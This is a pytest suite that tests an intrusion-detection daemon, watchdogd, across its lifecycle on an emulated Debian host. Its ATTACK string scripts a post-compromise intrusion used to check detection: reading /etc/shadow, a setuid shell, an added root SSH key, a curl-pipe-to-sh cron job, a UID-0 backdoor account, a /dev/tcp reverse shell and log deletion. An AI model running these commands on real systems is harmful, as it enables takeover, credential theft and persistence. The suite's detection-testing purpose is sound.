"""A whole host, emulated: Debian 12 with its own kernel, audit, systemd and journal, from installation to purge.

The tests are one story, told in order on one machine; what each took stands at the end of the run. The model and the
receiver of webhooks run on this side of the wire. Emulation is slow, so nothing here says anything about time.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import time
from collections import Counter
from typing import TYPE_CHECKING, Any

import pytest

from tests.host import guard, guest, guest_image
from tests.host.guest import HOST, Guest
from tests.host.receiver import Received, Receiver
from tests.host.test_package import INSTALL, make_next
from tools.build_deb import build, build_wheel
from watchdogd.collect.kernel_clock import parse as parse_clock
from watchdogd.last_words import RESTARTED, STOPPED
from watchdogd.write.journald import MESSAGE_ID_ALERT, MESSAGE_ID_BLINDNESS, MESSAGE_ID_VERDICT

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator
    from pathlib import Path

    from tests.ollama.fixtures import Ollama

pytestmark = [pytest.mark.host, pytest.mark.slow, pytest.mark.qemu]

WAIT_S = 300.0
CONFIG = "/etc/watchdogd/config.yaml"
MARKER_RULE = "/etc/watchdogd/rules/marker.yml"
MARK = "marker-of-the-test"
MARKER = f"""\
title: A marker of the test
id: 8a1d8a55-7f0e-4d6c-9c80-2d3cf2b1a901
status: test
level: LEVEL
logsource: {{product: linux, category: process_creation}}
detection:
  selection:
    CommandLine|contains: {MARK}
  condition: selection
watchdogd: {{cooldown: 0s, triage: never}}
"""
TRACES = "find / -xdev -name '*watchdogd*' -not -path '/proc/*' -not -path '/var/tmp/*' -not -path '/var/log/*'"
ADMIN, VICTIM = ("ops", "correct-horse"), ("web", "summer")
ACCOUNTS = """\
for pair in ops:correct-horse web:summer; do
    useradd --create-home --shell /bin/bash "${pair%:*}"
    echo "$pair" | chpasswd
    echo "${pair%:*} ALL=(ALL) NOPASSWD: ALL" >"/etc/sudoers.d/${pair%:*}"
done
mkdir -p -m 0700 /root/.ssh
"""
ADMINS_DAY = """\
uptime; df -h /; free -m; w; ps aux | head -5
sudo systemctl status cron --no-pager
sudo journalctl -n 20 --no-pager >/dev/null
sudo ls -la /var/log /root
sudo useradd --create-home --shell /bin/bash carol
echo carol:battery-staple | sudo chpasswd
sudo usermod -aG adm carol
id carol; sudo passwd -S carol
echo 'Maintenance tonight' | sudo tee /etc/motd
sudo cp /etc/ssh/sshd_config /root/sshd_config.before
sudo sed -i 's/#ClientAliveInterval 0/ClientAliveInterval 120/' /etc/ssh/sshd_config
sudo sshd -t && sudo systemctl reload ssh
sudo tar -czf /var/backups/etc.tar.gz /etc
sudo find /var/log -name '*.gz' -mtime +30
sudo apt-get remove -y nano
sudo systemctl restart cron
sudo watchdogd status
sudo watchdogd alerts list
"""
ATTACK = f"""\
id; uname -a; sudo -l
mkdir /tmp/.x
sudo cat /etc/shadow >/tmp/.x/hashes
cp /bin/bash /tmp/.x/sh; sudo chown root /tmp/.x/sh; sudo chmod 4755 /tmp/.x/sh
echo 'ssh-ed25519 AAAA evil' | sudo tee -a /root/.ssh/authorized_keys
echo '* * * * * root curl -s http://{HOST}/x | sh' | sudo tee /etc/cron.d/update
sudo useradd -o -u 0 -g 0 backdoor
bash -c 'exec 3<>/dev/tcp/{HOST}/9; sh <&3 >&3 2>&3'
sudo rm -f /var/log/btmp
"""


ATTACK_TITLES = {
    "SSH Login Accepted After Many Were Refused",
    "Password Hashes Read by an Unusual Program",
    "Setuid Bit Set on a File",
    "Second Account With Root's Number",
    "Reverse Shell Command Line",
    "Log Removed by a Shell Tool",
    "Scheduled Job Fetches, Decodes or Runs From a Temporary Folder",
    "Rights Taken, a Way Back Left and Traces Removed in One Session",
}

CLOCK = "/run/watchdogd-audit/clock"
"""What a unit beside the daemon asks, whose own sandbox bars it."""


@pytest.fixture(scope="module")
def packages(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """This checkout's package, and a later one."""
    wheel = build_wheel(tmp_path_factory.mktemp("wheel"))
    package = build("debian12", wheel, tmp_path_factory.mktemp("packages"))
    return package, make_next(package)


@pytest.fixture(scope="module")
def hook() -> Iterator[Receiver]:
    """The receiver of webhooks."""
    with Receiver() as receiver:
        yield receiver


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guest]:
    """The machine, booted."""
    guard.require_programs(*guest.PROGRAMS, *guest_image.PROGRAMS, "sshpass", "ssh")
    if os.geteuid() != 0:
        guard.skip_or_fail("making the image needs root")
    with Guest(guest_image.build_image(), tmp_path_factory.mktemp("guest")) as machine:
        yield machine


def log_in(host: Guest, account: tuple[str, str], script: str) -> subprocess.CompletedProcess[str]:
    """What a person does who logs in by a password."""
    user, password = account
    # fmt: off
    command = [
        "sshpass", "-p", password, "ssh", "-F", "none", "-p", str(host.ssh_port), "-o", "StrictHostKeyChecking=no",
        "-o", "UserKnownHostsFile=/dev/null", "-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no",
        "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=60", f"{user}@127.0.0.1", "bash", "-s",
    ]
    # fmt: on
    return subprocess.run(command, input=script, capture_output=True, text=True, check=False, timeout=300)


def mark(host: Guest, name: str) -> None:
    """Run what the test's own rule tells of, once for each time."""
    host.run("/bin/echo", MARK, name)


def read_alerts(host: Guest, *matches: str) -> list[dict[str, Any]]:
    """First told, not later verdicts and repeats."""
    entries = host.read_journal("-t", "watchdogd", *matches)
    first = {str(kind.hex) for kind in (MESSAGE_ID_ALERT, MESSAGE_ID_BLINDNESS)}
    return [entry for entry in entries if entry.get("MESSAGE_ID") in first]


def find_marks(host: Guest) -> list[str]:
    """What the marks that were told are called, in the order of telling."""
    return [name for alert in read_alerts(host) if (name := find_mark(alert))]


def find_mark(alert: dict[str, Any]) -> str:
    """What the mark is called that an alert is about, empty for others."""
    words = str(alert.get("WATCHDOGD_CMDLINE", "")).split()
    return words[2] if words[:2] == ["/bin/echo", MARK] else ""


def wait_until(host: Guest, true: Callable[[], bool], what: str, timeout_s: float = WAIT_S) -> None:
    deadline_s = time.monotonic() + timeout_s
    while not true():
        if time.monotonic() > deadline_s:
            said = host.run("journalctl", "--no-pager", "-u", "watchdogd", check=False).stdout
            raise TimeoutError(f"not within {timeout_s:g} s: {what}; the service says:\n{said[-6000:]}")
        time.sleep(1)


def wait_for_mark(host: Guest, name: str) -> None:
    wait_until(host, lambda: name in find_marks(host), f"{name} is told")


def check_told_once(host: Guest, hook: Receiver) -> None:
    """What the journal has, the receiver has; neither has anything twice, and no event was judged twice."""
    alerts = read_alerts(host)
    ids = [alert["WATCHDOGD_ALERT_ID"] for alert in alerts]
    sent = {alert["WATCHDOGD_ALERT_ID"] for alert in alerts if alert["WATCHDOGD_LEVEL"] != "informational"}
    wait_until(host, lambda: sent <= list_arrived(hook), "the receiver has what the journal has")
    assert find_repeated(request.headers["webhook-id"] for request in hook.requests) == []
    assert find_repeated(ids) == []
    events = [(alert["WATCHDOGD_RULE_ID"], alert["WATCHDOGD_EVENT_ID"]) for alert in alerts if is_judged(alert)]
    assert find_repeated(events) == []
    arrived = list_arrived(hook)
    wait_until(
        host,
        lambda: arrived <= {alert["WATCHDOGD_ALERT_ID"] for alert in read_alerts(host)},
        "the journal has all, too",
    )


def list_arrived(hook: Receiver) -> set[str]:
    """The alerts that the receiver has heard of."""
    return {request.document["watchdogd"]["alert_id"] for request in hook.requests}


def is_judged(alert: dict[str, Any]) -> bool:
    return "WATCHDOGD_EVENT_ID" in alert and alert["MESSAGE_ID"] == MESSAGE_ID_ALERT.hex


def find_repeated(names: Iterable[object]) -> list[object]:
    return [name for name, number in Counter(names).items() if number > 1]


def look(host: Guest, *groups: str) -> list[str]:
    """What the doctor minds."""
    done = host.run("watchdogd", "doctor", "--json", *groups, check=False, timeout_s=300)
    assert done.returncode in {0, 1}, done.stderr
    return [
        f"{finding['level']}: {finding['check']}: {finding['text']}"
        for finding in json.loads(done.stdout)["findings"]
        if finding["level"] in {"warning", "error"}
    ]


def test_it_boots_with_a_kernel_audit_of_its_own(host: Guest) -> None:
    status = host.run("auditctl", "-s").stdout
    assert "enabled 1\n" in status
    assert f"pid {host.show('auditd', 'MainPID')}\n" in status
    assert host.run("auditctl", "-l").stdout == "No rules\n"
    host.run("sh", "-e", stdin=ACCOUNTS)


def test_the_package_is_installed_and_enabled(
    host: Guest, packages: tuple[Path, Path], hook: Receiver, ollama: Ollama
) -> None:
    host.put(packages[0], f"/var/tmp/{packages[0].name}")
    installed = host.run(*INSTALL, f"/var/tmp/{packages[0].name}", timeout_s=600)
    assert "audit rules" not in installed.stdout + installed.stderr
    config = host.run("cat", CONFIG).stdout
    for old, new in (
        ("\nwebhooks:\n", f"\nwebhooks:\n  - name: test\n    url: {hook.url.replace('127.0.0.1', HOST)}\n"),
        ("ollama_url: http://127.0.0.1:11434", f"ollama_url: {ollama.url.replace('127.0.0.1', HOST)}"),
        ("model: phi3:mini", f"model: {ollama.model}"),
        ("  timeout_s: 60.0\n", "  timeout_s: 600.0\n"),
        ("budget_per_minute: 30", "budget_per_minute: 2"),  # the model shares the processors with the emulation
        ("cpu_share: 0.2", "cpu_share: 0.05"),
    ):
        assert config.count(old) == 1, old
        config = config.replace(old, new)
    host.write(CONFIG, config)
    host.write(MARKER_RULE, MARKER.replace("LEVEL", "low"))
    host.run("watchdogd", "check")
    host.run("systemctl", "enable", "--now", "watchdogd")
    assert host.show("watchdogd", "ActiveState") == "active"
    mark(host, "installed")
    wait_for_mark(host, "installed")


def test_the_doctor_finds_a_healthy_host(host: Guest) -> None:
    expected = (
        "warning: (clock|exam|settings and rules): .*(synchron|not examined|unencrypted)|error: Ollama: .* within"
    )
    assert [said for said in look(host) if not re.match(expected, said)] == []
    wait_until(host, lambda: look(host, "ollama") == [], "Ollama answers as fast as the doctor wants it to")
    wait_until(host, lambda: host.run("test", "-e", CLOCK, check=False).returncode == 0, CLOCK)
    assert parse_clock(host.run("cat", CLOCK).stdout).max_error_s > 0


def test_an_admins_day_raises_no_alarm(host: Guest, hook: Receiver) -> None:
    done = log_in(host, ADMIN, ADMINS_DAY)
    assert done.returncode == 0, done.stderr
    mark(host, "day-over")
    wait_for_mark(host, "day-over")
    told = [(alert["WATCHDOGD_LEVEL"], alert["WATCHDOGD_RULE_TITLE"]) for alert in read_alerts(host)]
    assert {"low", "informational"} >= {level for level, title in told if title != "SSH Server Configuration Written"}
    assert {level for level, _ in told} & {"high", "critical"} == set()
    check_told_once(host, hook)


def test_an_attack_is_told_with_the_models_verdict(host: Guest, hook: Receiver, ollama: Ollama) -> None:
    for word in ("123456", "password", "qwerty", "letmein", "winter"):
        assert log_in(host, (VICTIM[0], word), "").returncode != 0
    assert log_in(host, VICTIM, ATTACK).returncode == 0
    wait_until(
        host, lambda: {alert["WATCHDOGD_RULE_TITLE"] for alert in read_alerts(host)} >= ATTACK_TITLES, "all of it"
    )
    alerts = {alert["WATCHDOGD_ALERT_ID"]: alert for alert in read_alerts(host)}
    wait_until(host, lambda: bool(find_verdicts(host)), "the model has its say")
    verdict = find_verdicts(host)[0]
    assert verdict["WATCHDOGD_VERDICT"] in {"malicious", "suspicious", "benign"}  # which one is the model's own affair
    assert verdict["WATCHDOGD_LEVEL"] == alerts[verdict["WATCHDOGD_ALERT_ID"]]["WATCHDOGD_LEVEL"]
    requests = hook.wait_for(
        lambda requests: any(is_verdict_on(request, verdict["WATCHDOGD_ALERT_ID"]) for request in requests), WAIT_S
    )
    [said] = [request.document for request in requests if is_verdict_on(request, verdict["WATCHDOGD_ALERT_ID"])]
    assert said["watchdogd"]["verdict"]["model"] == ollama.model
    assert said["watchdogd"]["verdict"]["label"] == verdict["WATCHDOGD_VERDICT"]
    check_told_once(host, hook)


def find_verdicts(host: Guest) -> list[dict[str, Any]]:
    """Those that came after their alert."""
    return host.read_journal("-t", "watchdogd", f"MESSAGE_ID={MESSAGE_ID_VERDICT.hex}")


def is_verdict_on(request: Received, alert_id: str) -> bool:
    return request.headers["webhook-id"] == f"verdict_{alert_id}"


def test_a_reload_takes_an_edited_rule_and_refuses_a_broken_one(host: Guest) -> None:
    host.write(MARKER_RULE, MARKER.replace("LEVEL", "medium"))
    host.run("systemctl", "reload", "watchdogd")
    mark(host, "edited")
    wait_for_mark(host, "edited")
    [edited] = [alert for alert in read_alerts(host) if find_mark(alert) == "edited"]
    assert edited["WATCHDOGD_LEVEL"] == "medium"
    host.write(MARKER_RULE, MARKER.replace("LEVEL", "dreadful"))
    refused = host.run("systemctl", "reload", "watchdogd", check=False)
    mark(host, "broken")
    wait_for_mark(host, "broken")  # the rules from before are in force
    host.write(MARKER_RULE, MARKER.replace("LEVEL", "low"))
    host.run("systemctl", "reload", "watchdogd")
    assert refused.returncode != 0
    told = [str(entry["MESSAGE"]) for entry in host.read_journal("-u", "watchdogd", "_COMM=watchdogd")]
    assert any("marker.yml:4:1: error: unknown level 'dreadful'" in message for message in told), told[-10:]
    assert [said for said in look(host, "rules", "service") if "refused" in said] == []


def test_a_frozen_daemon_is_started_again_and_judges_what_it_missed(host: Guest, hook: Receiver) -> None:
    pid = host.show("watchdogd", "MainPID")
    host.run("kill", "-STOP", pid)
    mark(host, "while-frozen")
    wait_until(host, lambda: host.show("watchdogd", "NRestarts") == "1", "systemd starts it again")
    wait_until(host, lambda: host.show("watchdogd", "ActiveState") == "active", "it is ready")
    assert host.show("watchdogd", "MainPID") != pid
    wait_for_mark(host, "while-frozen")
    check_told_once(host, hook)


def test_an_upgrade_loses_nothing_and_keeps_what_was_edited(
    host: Guest, packages: tuple[Path, Path], hook: Receiver
) -> None:
    before, config = host.show("watchdogd", "MainPID"), host.run("cat", CONFIG).stdout
    host.put(packages[1], f"/var/tmp/{packages[1].name}")
    upgrade = ["systemd-run", "-q", "--unit=upgrade", "-p", "RemainAfterExit=yes"]
    host.run(*upgrade, *INSTALL, f"/var/tmp/{packages[1].name}")
    marks: list[str] = []
    while host.show("upgrade", "SubState") == "running":
        marks.append(f"upgrade-{len(marks)}")
        mark(host, marks[-1])
        time.sleep(2)
    assert host.show("upgrade", "Result") == "success"
    assert "-2~deb12" in host.run("dpkg-query", "-W", "watchdogd").stdout
    assert host.show("watchdogd", "ActiveState") == "active"
    assert host.show("watchdogd", "MainPID") != before
    assert host.run("cat", CONFIG).stdout == config
    assert len(marks) > 1
    wait_for_mark(host, marks[-1])
    wait_until(host, lambda: {*marks} <= {*find_marks(host)}, f"all of {marks} are told")
    check_told_once(host, hook)


AROUND = f"""\
[Unit]
Description=Runs programs when watchdogd does not yet, and when it no longer does
After=auditd.service
Before=watchdogd.service
[Service]
Type=oneshot
RemainAfterExit=yes
ExecStart=/bin/echo {MARK} before-its-start
ExecStop=/bin/echo {MARK} after-its-stop
[Install]
WantedBy=multi-user.target
"""


def test_a_reboot_loses_nothing_and_tells_nothing_twice(host: Guest, hook: Receiver) -> None:
    host.write("/etc/systemd/system/around.service", AROUND)
    host.run("systemctl", "daemon-reload")
    host.run("systemctl", "enable", "--now", "around")
    wait_for_mark(host, "before-its-start")
    before = host.read_boot_id()
    host.reboot()
    assert host.read_boot_id() != before
    assert host.show("watchdogd", "ActiveState") == "active"
    wait_for_mark(host, "after-its-stop")
    wait_until(host, lambda: find_marks(host).count("before-its-start") == 2, "what ran before its start is told")
    mark(host, "rebooted")
    wait_for_mark(host, "rebooted")
    assert Counter(find_marks(host))["after-its-stop"] == 1
    assert [alert["MESSAGE"] for alert in read_alerts(host, f"WATCHDOGD_RULE_ID={STOPPED.id}")] == []
    [words, *_] = read_alerts(host, f"WATCHDOGD_RULE_ID={RESTARTED.id}")[::-1]
    assert "systemctl reboot" in words["WATCHDOGD_REASONS"]
    assert look(host, "audit") == []
    check_told_once(host, hook)


def test_who_stops_it_is_named_and_what_it_missed_is_told(host: Guest, hook: Receiver) -> None:
    assert log_in(host, ADMIN, "sudo systemctl stop watchdogd").returncode == 0
    assert host.show("watchdogd", "ActiveState") == "inactive"
    [words] = [alert["WATCHDOGD_REASONS"] for alert in read_alerts(host, f"WATCHDOGD_RULE_ID={STOPPED.id}")]
    assert "`systemctl stop watchdogd`" in words
    assert f"logged in as {ADMIN[0]}" in words
    mark(host, "while-stopped")
    host.run("systemctl", "start", "watchdogd")
    wait_for_mark(host, "while-stopped")
    check_told_once(host, hook)


def test_a_power_cut_tells_nothing_twice_and_what_was_logged_is_told(host: Guest, hook: Receiver) -> None:
    mark(host, "long-before-the-cut")
    wait_for_mark(host, "long-before-the-cut")
    check_told_once(host, hook)
    before = {request.headers["webhook-id"] for request in hook.requests}
    time.sleep(45)  # the kernel writes to the disk what nobody asked it to within 35 s
    mark(host, "just-before-the-cut")
    host.cut_power()
    host.power_on()
    assert host.show("watchdogd", "ActiveState") == "active"
    mark(host, "after-the-cut")
    wait_for_mark(host, "after-the-cut")
    told = Counter(find_marks(host))
    assert (told["long-before-the-cut"], told["after-the-cut"]) == (1, 1)
    in_log = host.run("grep", "-c", "a2=.[j]ust-before-the-cut", "/var/log/audit/audit.log", check=False).stdout
    arrived = sum(b"just-before-the-cut" in request.body for request in hook.requests)
    assert told["just-before-the-cut"] + arrived >= int(in_log)
    repeated = find_repeated(request.headers["webhook-id"] for request in hook.requests)
    assert [name for name in repeated if name in before] == []
    assert look(host, "audit") == []


def test_purged_it_leaves_no_rule_in_the_kernel(host: Guest) -> None:
    host.run("apt-get", "purge", "-y", "watchdogd", timeout_s=300)
    assert host.run("auditctl", "-l").stdout == "No rules\n"
    assert host.run("sh", "-c", TRACES).stdout == ""
